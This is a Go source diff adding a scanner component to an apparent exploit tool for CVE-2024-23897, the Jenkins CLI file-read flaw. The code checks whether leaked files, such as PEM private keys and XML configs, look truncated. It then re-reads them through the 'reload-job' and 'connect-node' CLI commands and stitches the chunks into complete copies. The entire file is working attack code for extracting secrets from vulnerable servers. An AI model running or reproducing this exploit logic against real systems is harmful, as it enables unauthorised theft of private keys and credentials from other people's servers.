@@ -0,0 +1,178 @@
+package scanner
+
+import (
+	"context"
+	"github.com/projectdiscovery/gologger"
+	"github.com/wjlin0/CVE-2024-23897/pkg/input"
+	"github.com/wjlin0/CVE-2024-23897/pkg/output"
+	"regexp"
+	"strings"
+)
+
+// artifact states of leaked files which looked truncated
+const (
+	ArtifactComplete = "complete"
+	ArtifactPartial  = "partial"
+)
+
+// reasons of truncated leaked files
+const (
+	TruncatedXML = "unclosed-xml"
+	TruncatedPEM = "unclosed-pem"
+)
+
+// DefaultMaxChunkRequests is the default number of follow-up reads of a truncated file
+const DefaultMaxChunkRequests = 3
+
+// stitchOverlap is the number of lines a chunk must share with the retrieved lines to be stitched
+const stitchOverlap = 3
+
+// fullReadCommands leak every line of a file, servers capping the error channel cap each
+// command differently so their outputs reach different portions of the file
+var fullReadCommands = []string{"reload-job", "connect-node"}
+
+var xmlRootRegex = regexp.MustCompile(`^<([A-Za-z_][\w.:-]*)`)
+
+// Truncation returns why the leaked content looks truncated, empty when it looks complete
+func Truncation(content string) string {
+	lines := splitLines(content)
+	if len(lines) == 0 {
+		return ""
+	}
+	if begin, end := strings.Count(content, "-----BEGIN "), strings.Count(content, "-----END "); begin > end {
+		return TruncatedPEM
+	}
+	first := lines[0]
+	if strings.HasPrefix(first, "<?xml") {
+		if len(lines) == 1 {
+			return TruncatedXML
+		}
+		first = lines[1]
+	}
+	root := xmlRootRegex.FindStringSubmatch(first)
+	if root == nil || strings.HasSuffix(first, "/>") && len(lines) <= 2 {
+		return ""
+	}
+	if !strings.HasSuffix(lines[len(lines)-1], "</"+root[1]+">") {
+		return TruncatedXML
+	}
+	return ""
+}
+
+// splitLines returns the non empty trimmed lines, as args4j expands them
+func splitLines(content string) []string {
+	var lines []string
+	for _, line := range strings.Split(content, "\n") {
+		if line = strings.TrimSpace(line); line != "" {
+			lines = append(lines, line)
+		}
+	}
+	return lines
+}
+
+// stitch appends the lines of chunk following the retrieved lines. A chunk from the start of the
+// file must agree with every retrieved line, any other chunk must contain the last retrieved lines
+func stitch(lines, chunk []string) ([]string, bool) {
+	if len(lines) == 0 {
+		return chunk, true
+	}
+	if len(chunk) > 0 && chunk[0] == lines[0] {
+		for i := 0; i < len(lines) && i < len(chunk); i++ {
+			if chunk[i] != lines[i] {
+				return lines, false
+			}
+		}
+		if len(chunk) > len(lines) {
+			lines = append(lines, chunk[len(lines):]...)
+		}
+		return lines, true
+	}
+	overlap := stitchOverlap
+	if overlap > len(lines) {
+		overlap = len(lines)
+	}
+	tail := lines[len(lines)-overlap:]
+	for i := 0; i+overlap <= len(chunk); i++ {
+		if equalLines(chunk[i:i+overlap], tail) {
+			return append(lines, chunk[i+overlap:]...), true
+		}
+	}
+	return lines, false
+}
+
+func equalLines(a, b []string) bool {
+	if len(a) != len(b) {
+		return false
+	}
+	for i := range a {
+		if a[i] != b[i] {
+			return false
+		}
+	}
+	return true
+}
+
+// completeRead re-reads a file which looks truncated with the other full read commands and the
+// same one again, stitching the chunks until the file looks complete or the follow-ups run out
+func (s *Scanner) completeRead(ctx context.Context, target *input.Target, command, filename string, result *output.ResultEvent) {
+	reason := Truncation(result.Response)
+	if reason == "" || !IsFullReadCommand(command) {
+		return
+	}
+	max := DefaultMaxChunkRequests
+	if s.options != nil {
+		max = s.options.MaxChunkRequests
+	}
+	var followUps []string
+	for _, other := range fullReadCommands {
+		if other != command {
+			followUps = append(followUps, other)
+		}
+	}
+	for len(followUps) < max {
+		followUps = append(followUps, fullReadCommands...)
+	}
+	if len(followUps) > max {
+		followUps = followUps[:max]
+	}
+
+	lines := splitLines(result.Response)
+	result.Chunks = 1
+	for _, followUp := range followUps {
+		if ctx.Err() != nil {
+			break
+		}
+		chunk := s.ReadFile(ctx, target, followUp, filename)
+		if chunk == nil || chunk.Response == "" {
+			continue
+		}
+		stitched, ok := stitch(lines, splitLines(chunk.Response))
+		if !ok {
+			gologger.Debug().Msgf("discarding %s chunk of %s from %s: no overlap with the retrieved content", followUp, filename, target.ToString())
+			continue
+		}
+		if len(stitched) > len(lines) {
+			result.Chunks++
+		}
+		lines = stitched
+		if reason = Truncation(strings.Join(lines, "\n")); reason == "" {
+			break
+		}
+	}
+	result.Response = strings.Join(lines, "\n")
+	result.Artifact = ArtifactComplete
+	if reason != "" {
+		result.Artifact = ArtifactPartial
+		result.Truncation = reason
+	}
+}
+
+// IsFullReadCommand reports whether command leaks whole files, not only their first line
+func IsFullReadCommand(command string) bool {
+	for _, c := range fullReadCommands {
+		if c == command {
+			return true
+		}
+	}
+	return false
+}